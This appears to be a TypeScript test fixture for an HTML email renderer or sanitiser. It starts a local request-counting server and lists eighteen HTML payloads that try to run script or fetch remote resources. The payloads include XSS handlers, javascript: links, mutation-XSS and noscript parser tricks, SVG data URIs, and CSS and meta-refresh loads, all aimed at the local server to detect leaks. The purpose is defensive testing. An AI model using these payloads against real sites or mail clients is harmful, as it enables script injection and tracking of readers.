/** What letters try that are not written to be read, and the server elsewhere to which they would get through. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** Serves pictures, and counts who asks for anything. */
export async function elsewhere(): Promise<{ url: string; asked: string[]; close: () => void }> {
  const asked: string[] = [];
  const listener = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.setHeader('content-type', 'image/gif');
    response.end(Buffer.from('R0lGODlhAQABAIAAAP8AAP///yH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64'));
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const { port } = listener.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, asked, close: () => listener.close() };
}

export const html = (body: string) => ({ 'MIME-Version': '1.0', 'Content-Type': 'text/html; charset=utf-8', body });

/** Letters that would run something, or ask the server at `u` for something, if anything let them. */
export function tricks(u: string): string[] {
  return [
    `<script>fetch('${u}/script')</script>`,
    `<img src=x onerror="fetch('${u}/onerror')">`,
    `<svg onload="fetch('${u}/svg')"><image href="${u}/svgimage"/><feImage href="${u}/feimage"/><use href="${u}/use#x"/></svg>`,
    `<iframe src="${u}/frame"></iframe><object data="${u}/object"></object><embed src="${u}/embed">`,
    `<link rel=stylesheet href="${u}/link"><link rel=prefetch href="${u}/prefetch"><link rel=dns-prefetch href="${u}">`,
    `<style>@import '${u}/import';body{background:url(${u}/css)}@font-face{font-family:x;src:url(${u}/font)}*{font-family:x}</style>`,
    `<div style="background-image:url('${u}/inline');list-style:url(${u}/list);content:url(${u}/content)">text</div>`,
    `<table background="${u}/background"><td background="${u}/td">x</table><body background="${u}/body">`,
    `<video src="${u}/video" poster="${u}/poster" autoplay></video><audio src="${u}/audio" autoplay></audio>`,
    `<img srcset="${u}/srcset 1x"><picture><source srcset="${u}/source"><img></picture><input type=image src="${u}/input">`,
    `<meta http-equiv=refresh content="0;url=${u}/refresh"><base href="${u}/base/"><img src="relative.gif">`,
    `<form action="${u}/form"><button autofocus>x</button></form><isindex action="${u}/isindex">`,
    `<a href="javascript:fetch('${u}/href')" id=a>x</a><a href="${u}/ping" ping="${u}/pinged">y</a>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=fetch('${u}/mxss')&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=fetch('${u}/noscript')>"></noscript>`,
    `<template><script>fetch('${u}/template')</script></template><dialog open onclose="fetch('${u}/dialog')">x</dialog>`,
    `<details open ontoggle="fetch('${u}/toggle')">x</details><marquee onstart="fetch('${u}/marquee')">x</marquee>`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(&quot;${u}/datasvg&quot;)'/>">`,
  ];
}
